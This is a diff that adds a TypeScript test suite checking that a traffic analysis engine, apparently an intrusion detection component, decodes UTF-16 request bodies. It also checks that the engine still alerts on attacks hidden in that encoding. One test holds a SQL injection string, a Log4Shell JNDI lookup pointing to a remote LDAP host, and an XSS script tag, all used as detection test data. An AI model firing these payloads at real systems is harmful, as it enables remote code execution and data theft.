@@ -1,0 +1,57 @@
+import fc from 'fast-check';
+import { createAnalysisEngine, DEFAULT_LIMITS, type MatchEventRecord } from '@/runtime/analyzer/engine';
+import { utf8Body } from '@/runtime/analyzer/engine/body-charset';
+import { viewRequest } from '@/runtime/analyzer/engine/message-view';
+import { buildExchange } from '@/test/fixtures/traffic';
+
+const le = (text: string) => Buffer.from(text, 'utf16le');
+const be = (text: string) => le(text).swap16();
+const json = '{"comment":"héllo <b>"}';
+
+describe('request bodies in UTF-16', () => {
+  it.each<[string, Buffer, string]>([
+    ['labelled utf-16le', le(json), 'application/json; charset=utf-16le'],
+    ['labelled UTF-16BE', be(json), 'application/json; charset=UTF-16BE'],
+    ['labelled utf-16 with a little-endian byte-order mark', Buffer.concat([Buffer.from([0xff, 0xfe]), le(json)]), 'application/json; charset=utf-16'],
+    ['labelled utf-16 without a mark (big-endian, RFC 2781)', be(json), 'application/json; charset="utf-16"'],
+    ['unlabelled little-endian JSON, told by its NUL bytes', le(json), 'application/json'],
+    ['unlabelled big-endian JSON, told by its NUL bytes', be(json), 'application/json'],
+    ['a big-endian byte-order mark on a form', Buffer.concat([Buffer.from([0xfe, 0xff]), be(json)]), 'application/x-www-form-urlencoded'],
+    ['UTF-8 with a byte-order mark', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(json)]), 'application/json'],
+  ])('reads %s as its text', (_what, data, contentType) => {
+    expect(utf8Body(data, contentType, contentType.includes('json')).toString('utf8')).toBe(json);
+  });
+
+  it('leaves UTF-8 and Latin-1 bytes as they are, and survives any bytes', () => {
+    const utf8 = Buffer.from(json);
+    expect(utf8Body(utf8, 'application/json; charset=utf-8', true)).toBe(utf8);
+    const latin = Buffer.from('caf\xe9', 'latin1');
+    expect(utf8Body(latin, 'text/plain; charset=iso-8859-1', false)).toBe(latin);
+    fc.assert(
+      fc.property(fc.uint8Array({ maxLength: 64 }), fc.constantFrom('', 'application/json', 'text/plain; charset=utf-16'), (bytes, type) => {
+        const out = utf8Body(Buffer.from(bytes), type, type.includes('json'));
+        expect(out.length).toBeLessThanOrEqual(bytes.length * 2 + 3);
+      }),
+    );
+  });
+
+  it('finds a payload sent as UTF-16 JSON or form, which read as UTF-8 was noise', () => {
+    const engine = createAnalysisEngine({ catalog: false });
+    for (const [type, body] of [
+      ['application/json; charset=utf-16le', le(JSON.stringify({ q: "' OR '1'='1' --" }))],
+      ['application/json', le(JSON.stringify({ q: '${jndi:ldap://203.0.113.9/a}' }))],
+      ['application/x-www-form-urlencoded; charset=utf-16be', be(`q=${encodeURIComponent('<script>alert(1)</script>')}`)],
+    ] as const) {
+      const events = engine.analyze(buildExchange({ method: 'POST', target: '/api', requestHeaders: [['Content-Type', type]], requestBody: body }), {
+        sensorId: 's',
+        sensorTags: [],
+      });
+      expect({ type, alerted: events.some((e): e is MatchEventRecord => e.msg_type === 'MatchEvent') }).toEqual({ type, alerted: true });
+    }
+    const view = viewRequest(
+      buildExchange({ method: 'POST', target: '/api', requestHeaders: [['Content-Type', 'application/json']], requestBody: le(json) }),
+      DEFAULT_LIMITS,
+    );
+    expect(view.bodyParams.map((p) => [p.name, p.value])).toEqual([['comment', 'héllo <b>']]);
+  });
+});
